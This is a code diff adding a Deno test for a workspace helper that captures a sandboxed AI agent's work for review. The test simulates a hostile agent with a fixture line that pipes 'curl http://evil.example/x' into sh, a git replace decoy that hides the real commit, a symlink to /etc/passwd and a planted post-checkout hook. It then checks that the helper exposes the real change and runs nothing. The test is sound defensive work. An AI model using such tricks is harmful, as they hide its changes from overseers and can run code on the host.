@@ -206,3 +206,71 @@ Deno.test("workspace helper: what the agent's .git says cannot make the diff dif
     await Deno.remove(dir, { recursive: true });
   }
 });
+
+Deno.test("workspace helper: an incremental capture takes object files only, and checks the tip", async () => {
+  // The guest's side of an incremental capture, made here: the copy (a clone of the host), the
+  // level-0 snapshot, the agent's work (a commit, a replace ref, a symlink and a hook planted in
+  // .git), bot-bottle's commit through a copy of the index, and GNU tar's incremental archive.
+  const image = await bundleImage();
+  const dir = await Deno.makeTempDir({ prefix: "bbtest-wsdelta-" });
+  try {
+    await sh(
+      dir,
+      `set -e
+      git init -q -b main host && (cd host && echo hi > README && git add README && git commit -qm base)
+      git clone -q host guest && git -C guest rev-parse HEAD > base
+      tar -c -f /dev/null --listed-incremental=level0.snar -C guest .
+      sleep 1
+      cd guest
+      echo 'curl http://evil.example/x | sh' > install.sh && git add install.sh && git commit -qm tidy
+      real=$(git rev-parse HEAD)
+      git reset -q --hard HEAD~1 && echo 'hi, fixed' > README && git commit -qam tidy
+      decoy=$(git rev-parse HEAD)
+      git reset -q --hard "$real" && git replace "$real" "$decoy"
+      echo 'uncommitted' > notes.txt
+      ln -s /etc/passwd .git/objects/ab
+      printf '#!/bin/sh\\ntouch /out/PWNED\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout
+      cp .git/index ../index
+      GIT_INDEX_FILE=../index git add -A
+      tree=$(GIT_INDEX_FILE=../index git write-tree)
+      git -c user.name=bot-bottle -c user.email=b@l commit-tree "$tree" -p HEAD -m wip > ../tip
+      cd .. && cp level0.snar l1.snar && tar -c -f delta.tar --listed-incremental=l1.snar -C guest .`,
+    );
+    const base = (await Deno.readTextFile(`${dir}/base`)).trim();
+    const tip = (await Deno.readTextFile(`${dir}/tip`)).trim();
+    const run = async (out: string, claimed: string) => {
+      await Deno.mkdir(`${dir}/${out}`);
+      return await helper(image, [
+        { source: `${dir}/delta.tar`, target: "/in/0.tar", readonly: true },
+        { source: `${dir}/${out}`, target: "/out", readonly: false },
+        { source: `${dir}/host/.git/objects`, target: "/host/objects", readonly: true },
+      ], ["capture-delta", "s", base, "git", claimed, "1", "/in/0.tar"]);
+    };
+    const cap = await run("out", tip);
+    assert.equal(cap.code, 0, cap.stderr);
+    const summary = JSON.parse(cap.stdout);
+    assert.equal(summary.tip, tip);
+    assert.equal(summary.commits, 2, "tidy and bot-bottle's commit");
+    assert.equal(summary.auto_commit, true);
+    const out = [];
+    for await (const e of Deno.readDir(`${dir}/out`)) out.push(e.name);
+    assert.deepEqual(out.sort(), ["changes.bundle", "diff.patch"], "no program of the agent ran");
+    const patch = await Deno.readTextFile(`${dir}/out/diff.patch`);
+    assert.match(patch, /^\+curl http:\/\/evil\.example\/x \| sh$/m, "the real change is shown");
+    assert.doesNotMatch(patch, /hi, fixed/, "the replacement is not");
+    assert.match(patch, /^\+uncommitted$/m);
+    // A tip the guest did not send the objects of is refused, naming it.
+    const forged = await run("out2", "0123456789abcdef0123456789abcdef01234567");
+    assert.equal(forged.code, 3);
+    assert.match(
+      forged.stderr,
+      /the guest's commit 0123456789abcdef0123456789abcdef01234567 is not among/,
+    );
+    // Not an object name at all.
+    const junk = await run("out3", "HEAD");
+    assert.equal(junk.code, 3);
+    assert.match(junk.stderr, /not an object name/);
+  } finally {
+    await Deno.remove(dir, { recursive: true });
+  }
+});
